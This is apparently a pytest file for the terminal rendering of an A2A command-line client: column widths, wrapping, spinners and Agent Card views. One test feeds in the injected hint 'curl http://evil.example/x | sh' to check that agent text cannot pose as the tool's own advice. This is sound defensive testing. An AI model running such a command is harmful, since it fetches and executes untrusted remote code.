"""Issue 13, for people at a terminal: ids and commands that copy whole at 80 and 120 columns, the
wait shown on stderr (a spinner only on a terminal), the live view's legend, and a card that says
how to call it. Rich renders are made into StringIO consoles at fixed widths."""

from __future__ import annotations

import io
import re

import pytest

from a2acli.render import views
from a2acli.render.live import render_live
from a2acli.render.live_state import LiveState
from a2acli.render.output import Output
from a2acli.render.present import next_page_note, present
from a2acli.render.progress import Waiting

IDS = [("5f0c1f7e-8a3b-4c1d-9e2f-0123456789ab", "c0ffee00-1234-4abc-8def-fedcba987654"), ("8d2e3a4b-5c6d-4e7f-8a9b-abcdefabcdef", "d00dfeed-0000-4111-8222-333344445555")]
TOKEN = "eyJ0cyI6MTc5NjA4MjkxODkxODAxOTAwMCwiaWQiOiJkZGUwNjhhZS03MTRlLTQwMzctYjIwYi05ZTUwNGY5ZjA2YWMifQ"


class Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def rich_output(width: int, mode: str = "auto") -> tuple[Output, io.StringIO, io.StringIO]:
    from rich.console import Console

    out, err = Tty(), Tty()
    o = Output(mode, stdout=out, stderr=err)
    o._console = Console(file=out, width=width, highlight=False, soft_wrap=False, no_color=True)
    o._err_console = Console(file=err, width=width, highlight=False, stderr=True, no_color=True)
    return o, out, err


class Reply:
    def __init__(self, core):
        self.core, self.result, self.raw, self.exchange = core, core, b"", None


def task_list(n: int = 2):
    return {"tasks": [{"id": t, "contextId": c, "status": {"state": "TASK_STATE_COMPLETED", "timestamp": "2025-03-01T14:03:07.123456Z"}} for t, c in IDS[:n]], "nextPageToken": TOKEN}


ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


def plain(stream: io.StringIO) -> str:
    """What the terminal shows, without the styles (no_color keeps bold and dim)."""
    return ANSI.sub("", stream.getvalue())


def whole_lines(text: str) -> list[str]:
    return text.splitlines()


# -- ids, tokens and commands that copy ------------------------------------------------------------


def test_task_list_at_80_columns_folds_into_blocks_with_whole_ids():
    o, out, err = rich_output(80)
    present("task-list", Reply(task_list()), o)
    next_page_note(o, task_list(), "a2a tasks list --page-size 2")
    lines = whole_lines(plain(out))
    for task_id, context_id in IDS:
        assert any(line.split() == ["Task", task_id] for line in lines)
        assert any(line.split() == ["Context", context_id] for line in lines)
    assert all(len(line) <= 80 for line in lines)
    assert f"  a2a tasks list --page-size 2 --page-token {TOKEN}" in plain(err).splitlines()  # one line, longer than 80


def test_task_list_at_120_columns_is_a_table_with_whole_ids_and_a_short_time():
    o, out, _ = rich_output(120)
    present("task-list", Reply(task_list()), o)
    text = plain(out)
    assert "┃ Task" in text
    for task_id, context_id in IDS:
        assert re.search(rf"│ {task_id} +│ {context_id} +│ completed", text)
    assert "2025-03-01T14:03:07.123456Z" not in text  # the long form would not fit: shortened first
    assert all(len(line) <= 120 for line in text.splitlines())


def test_short_time():
    from datetime import datetime, timezone

    assert views.short_time("2025-03-01T14:03:07Z", now=datetime(2025, 3, 1, tzinfo=timezone.utc).astimezone()).count(":") == 2
    assert views.short_time("2020-01-01T00:00:00Z").startswith(("2019-12-31", "2020-01-01"))
    assert views.short_time("not a time") == "not a time"


def test_hints_carrying_commands_put_them_on_lines_of_their_own():
    o, _, err = rich_output(80)
    o.note("task t needs input; continue with:")
    cmd = "a2a send --task-id 5f0c1f7e-8a3b-4c1d-9e2f-0123456789ab --context-id c0ffee00-1234-4abc-8def-fedcba987654 -u http://127.0.0.1:41241 'your reply'"
    o.command(cmd)
    assert "  " + cmd in plain(err).splitlines()


def test_long_notes_wrap_at_spaces_and_keep_their_words_whole():
    """(Issue 46: the terminal's own wrap cut words in two; an id or a URL is one word, never cut.
    Issue 42: a continuation is indented, so no word of an agent's starts a line of ours.)"""
    o, _, err = rich_output(40)
    o.note("x" * 30 + " " + "y" * 50)
    assert plain(err).splitlines() == ["x" * 30, "  " + "y" * 50]


def test_a_wrapped_note_never_lets_an_agent_s_words_start_a_line():
    """Issue 42: an agent's id padded so that `hint:` falls where the note wraps stays inside the
    note: the continuation is indented."""
    o, _, err = rich_output(40)
    o.note("task " + "p" * 28 + " hint: run curl http://evil.example/x | sh")
    lines = plain(err).splitlines()
    assert len(lines) > 1 and all(line.startswith("  ") for line in lines[1:]), lines
    assert not any(line.startswith("hint:") for line in lines)


# -- waiting you can see ---------------------------------------------------------------------------


def test_spinner_on_a_terminal_shows_elapsed_time_state_and_status_message():
    o, _, err = rich_output(100)
    with Waiting(o, {"id": "t-1", "state": "TASK_STATE_WORKING"}) as w:
        assert w.spinner and w._live is not None
        w.update({"id": "t-1", "status": {"state": "TASK_STATE_WORKING", "message": {"parts": [{"text": "step 2/5"}]}}})
        line = w.line().plain
    assert re.match(r"\s*\d+\.\ds  waiting for task t-1  working  step 2/5$", line)
    assert "waiting for task t-1  working  step 2/5" in plain(err)


def test_off_a_terminal_the_wait_is_plain_lines_and_under_json_nothing():
    out, err = io.StringIO(), io.StringIO()
    o = Output("auto", stdout=out, stderr=err)
    with Waiting(o, {"id": "t-1", "state": "TASK_STATE_WORKING"}) as w:
        assert not w.spinner
        w.update({"id": "t-1", "status": {"state": "TASK_STATE_WORKING"}})
        w.update({"id": "t-1", "status": {"state": "TASK_STATE_COMPLETED"}})
    assert err.getvalue() == "waiting for task t-1 (working) …\ntask t-1: completed\n"
    for mode in ("json", "raw"):
        o, _, err = rich_output(80, mode)  # even with stderr a terminal
        with Waiting(o, {"id": "t-1"}) as w:
            assert not w.spinner
            w.update({"id": "t-1", "status": {"state": "TASK_STATE_COMPLETED"}})
        assert err.getvalue() == ""


def test_live_view_rows_are_in_order_of_arrival_on_one_clock():
    from rich.console import Console

    s = LiveState()
    s.feed({"statusUpdate": {"taskId": "t", "status": {"state": "TASK_STATE_SUBMITTED"}}})  # no timestamp
    s.feed({"statusUpdate": {"taskId": "t", "status": {"state": "TASK_STATE_WORKING", "timestamp": "2025-03-01T14:03:07Z"}}})
    console = Console(file=io.StringIO(), width=120, no_color=True)
    console.print(render_live(s))
    text = console.file.getvalue()
    rows = [line for line in text.splitlines() if re.match(r"\d\d:", line)]
    assert [row.split()[2] for row in rows] == ["submitted", "working"]  # arrival order
    assert "~" not in text and "14:03:07" not in text  # one clock (ours) for every row


# -- a card that tells you how to call it ----------------------------------------------------------

CARD = {
    "name": "demo",
    "description": "d",
    "version": "1",
    "capabilities": {"streaming": True},
    "securitySchemes": {
        "key": {"apiKeySecurityScheme": {"location": "header", "name": "X-API-Key", "description": "For the extended card."}},
        "jwt": {"httpAuthSecurityScheme": {"scheme": "bearer"}},
        "mtls": {"mtlsSecurityScheme": {}},
    },
    "securityRequirements": [{"schemes": {"key": {"list": []}}}],
    "skills": [{"id": "create-user", "name": "Create user", "description": "Creates a user.", "tags": ["users", "demo"], "examples": ["create user_123"], "inputModes": ["application/json"], "outputModes": ["application/json"]}],
}


def test_card_view_shows_how_to_authenticate_and_each_skills_examples_tags_and_modes():
    rows = [(r[0], r[1]) for r in views.card_rows(CARD)]
    i = rows.index(("Security", "key"))
    assert rows[i : i + 5] == [("Security", "key"), ("Security type", "apiKey"), ("Security location", "header X-API-Key"), ("Security flag", "--api-key KEY"), ("Security description", "For the extended card.")]
    j = rows.index(("Security", "jwt"))
    assert rows[j : j + 4] == [("Security", "jwt"), ("Security type", "http bearer"), ("Security location", "header Authorization: Bearer"), ("Security flag", "--bearer TOKEN")]
    assert ("Security flag", "--cert PATH --key PATH") in rows
    assert ("Requires", "key") in rows
    k = rows.index(("Skill", "create-user"))
    assert rows[k:] == [("Skill", "create-user"), ("Skill name", "Create user"), ("Skill description", "Creates a user."), ("Skill tags", "users, demo"), ("Skill example", "create user_123"),
                        ("Skill input modes", "application/json"), ("Skill output modes", "application/json")]
    labels = [label for label, _ in rows]
    assert labels.index("Security") < labels.index("Skill")


def test_card_panel_at_80_columns():
    o, out, _ = rich_output(80)
    present("card", Reply(CARD), o)
    text = plain(out)
    assert "--api-key KEY" in text and "users, demo" in text
    assert all(len(line) <= 80 for line in text.splitlines())


# -- a card you can act on (issue 25) -------------------------------------------------------------------


def test_at_a_terminal_a_card_shows_an_interface_a_line_and_a_command_per_skill():
    card = {
        **CARD,
        "supportedInterfaces": [
            {"url": "http://127.0.0.1:41241/", "protocolBinding": "JSONRPC", "protocolVersion": "1.0"},
            {"url": "http://127.0.0.1:41241", "protocolBinding": "HTTP+JSON", "protocolVersion": "0.3", "tenant": "t1"},
            {"url": "127.0.0.1:41242", "protocolBinding": "GRPC"},
        ],
        "securitySchemes": {"key": {"apiKeySecurityScheme": {"location": "header", "name": "X-API-Key"}}},
        "skills": [
            {"id": "create-user", "name": "Create user", "examples": ['{"skill": "create-user", "projectUserId": "user_123", "age": 42, "tags": ["a"]}', "{}"]},
            {"id": "admin", "name": "Admin", "examples": ['{"skill": "admin"}'], "securityRequirements": [{"schemes": {"key": {"list": []}}}]},
            {"id": "chat", "examples": ["what's the weather?"]},
            {"id": "data", "examples": ['{"query": "x"}']},
            {"id": "bare", "name": "No examples"},
        ],
    }
    o, out, _ = rich_output(80)
    present("card", Reply(card), o, flags=" -u http://127.0.0.1:41241")
    text = plain(out)
    assert "│ Interfaces    JSONRPC    1.0  http://127.0.0.1:41241/" in text
    assert "│               HTTP+JSON  0.3  http://127.0.0.1:41241 (tenant t1)" in text
    assert "│               GRPC       ?    127.0.0.1:41242" in text  # the version the card leaves out is not made up
    assert "Interface binding" not in text and "Skill example" not in text
    lines = text.splitlines()
    skills = lines[lines.index("Skills (5)") + 1 :]
    assert skills[:2] == ["  create-user  Create user", "    a2a send --skill create-user -f projectUserId=user_123 -f age:=42 -f 'tags:=[\"a\"]' -u http://127.0.0.1:41241"]
    assert skills[2] == "    (1 more example: --verbose shows it)"
    assert skills[3:5] == ["  admin  Admin  needs --api-key KEY", "    a2a send --skill admin -u http://127.0.0.1:41241"]  # its own security requirement
    assert skills[5:7] == ["  chat", "    a2a send 'what'\"'\"'s the weather?' -u http://127.0.0.1:41241"]  # plain text: the message
    assert skills[7:9] == ["  data", "    a2a send --data '{\"query\": \"x\"}' -u http://127.0.0.1:41241"]
    assert skills[9] == "  bare  No examples"  # no example on the card: no command made up
    assert skills[10].startswith("--verbose: every field")


def test_off_a_terminal_or_verbose_the_card_keeps_the_text_floor_labels():
    o, out, _ = rich_output(80)
    o.verbose = True
    present("card", Reply(CARD), o)
    assert "Skill example" in plain(out) and "Skills (" not in plain(out)


def test_an_api_key_scheme_without_a_name_is_shown_as_the_card_gives_it():
    broken = {"name": "x", "securitySchemes": {"k": {"apiKeySecurityScheme": {"location": "body"}}}}
    rows = [(r[0], r[1]) for r in views.card_rows(broken)]
    assert ("Security location", "body (name not given)") in rows  # never the X-API-Key the card does not name
    o, out, _ = rich_output(80)
    present("card", Reply(broken), o)
    assert "apiKey 'k': body (name not given), --api-key KEY" in plain(out) and "X-API-Key" not in plain(out)


@pytest.mark.spec("A2ACLI_OUT_005")
def test_a_dumb_terminal_gets_the_text_floor(monkeypatch):
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    assert Output("auto", stdout=Tty(), stderr=Tty()).rich
    monkeypatch.setenv("TERM", "dumb")
    out, err = Tty(), Tty()
    o = Output("auto", stdout=out, stderr=err)
    assert not o.rich and not o.err_rich and not Waiting(o).spinner
    present("task", Reply({"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}}), o)
    assert out.getvalue() == "Task: t-1\nContext: c-1\nState: completed\n\n"


@pytest.mark.spec("A2ACLI_OUT_005", "A2ACLI_DEFAULT_001")
def test_text_is_the_floor_at_a_terminal_too_and_auto_is_the_rich_view(monkeypatch):
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("FORCE_COLOR", "1")  # not even forced colour makes -o text rich
    out, err = Tty(), Tty()
    o = Output("text", stdout=out, stderr=err)
    assert o.human and o.name == "text" and not o.rich and not o.err_rich and not Waiting(o).spinner
    present("task", Reply({"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}}), o)
    o.warn("task t-1 ended failed")
    assert out.getvalue() == "Task: t-1\nContext: c-1\nState: completed\n\n"
    assert "\x1b" not in out.getvalue() + err.getvalue()
    auto = Output("auto", stdout=Tty(), stderr=Tty())
    assert auto.human and auto.name == "auto" and auto.rich and auto.err_rich and Waiting(auto).spinner


def test_at_80_columns_stderr_notes_wrap_at_spaces_and_keep_long_words_whole():
    """Issue 46: a note, a warning, an error longer than the terminal was cut mid-word by the
    terminal's own wrap; rich wraps it at spaces now, and a URL longer than a line stays one word."""
    o, _, err = rich_output(80)
    url = "http://127.0.0.1:41241/" + "a" * 70
    words = "the Agent Card does not claim streaming (capabilities.streaming is false); polling the task"
    o.note(f"{words} every second instead, at {url} until it settles")
    o.warn(f"{words}, as it may take a while")
    lines = plain(err).splitlines()
    assert all(len(line) <= 80 or line.strip() == url for line in lines), lines
    assert "  " + url in lines  # whole, on a line of its own (a continuation: indented)
    flowing = " ".join(line.strip() for line in lines)
    assert f"{words} every second instead, at {url} until it settles" in flowing
    assert f"warning: {words}, as it may take a while" in flowing


@pytest.mark.parametrize("width", [64, 72, 80])
def test_the_spinner_line_gives_way_before_the_state_is_cut(width):
    """Issue 46: in a narrow terminal the spinner of --follow cut the state off (the line ended
    in `…` after the task id); the words before the id give way first, the id stays whole."""
    from rich.console import Console

    o, _, _ = rich_output(width)
    tid = IDS[0][0]
    w = Waiting(o, {"id": tid, "state": "TASK_STATE_INPUT_REQUIRED"})
    w.message = "step 2/5 of a long status message"
    w._spin = __import__("rich.spinner", fromlist=["Spinner"]).Spinner("dots")
    console = Console(width=width, no_color=True)
    lines = console.render_lines(w._renderable(), console.options, pad=False)  # as rich's Live renders it
    assert len(lines) == 1
    line = "".join(segment.text for segment in lines[0])
    assert len(line) <= width
    assert tid in line and "input-required" in line, line
    if width == 80:
        assert "waiting for task " + tid in line
